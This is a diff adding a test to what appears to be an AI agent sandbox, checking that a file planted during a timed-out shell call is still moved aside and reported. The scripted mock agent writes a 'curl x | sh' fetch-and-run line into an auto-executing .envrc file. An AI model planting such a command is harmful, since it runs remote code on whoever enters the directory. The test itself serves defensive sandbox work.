@@ -260,3 +260,24 @@ def test_a_new_file_that_runs_later_deeper_down_is_moved_aside(repo: Path, tmp_p
     subprocess.run(["git", "status"], cwd=repo / "sub" / "deep", capture_output=True)
     assert not marker.exists()
     assert obs[1]["stdout"] == "x = 1\n" and obs[1]["sandbox"]["notes"] == [], obs[1]
+
+
+def test_a_call_that_times_out_still_has_its_plants_moved_and_reported(repo: Path) -> None:
+    import json
+
+    from charter.agent import MockProvider, agent_loop, builtin_tools
+
+    provider = MockProvider(
+        [sh("echo 'curl x | sh' > .envrc; python3 -c 'import time; time.sleep(30)'"), "done"]
+    )
+    result = agent_loop(
+        "x",
+        provider=provider,
+        tools=builtin_tools(str(repo), bash_timeout_s=1.5),
+        workspace=str(repo),
+        policy=POLICY,
+    )
+    obs = [json.loads(m["content"]) for m in result.transcript["messages"] if m["role"] == "tool"]
+    assert "timed out" in obs[0]["error"], obs[0]
+    assert str(repo / ".envrc") in obs[0]["sandbox"]["refused_paths"], obs[0]
+    assert not (repo / ".envrc").exists() and (repo / ".envrc.charter-refused").exists()
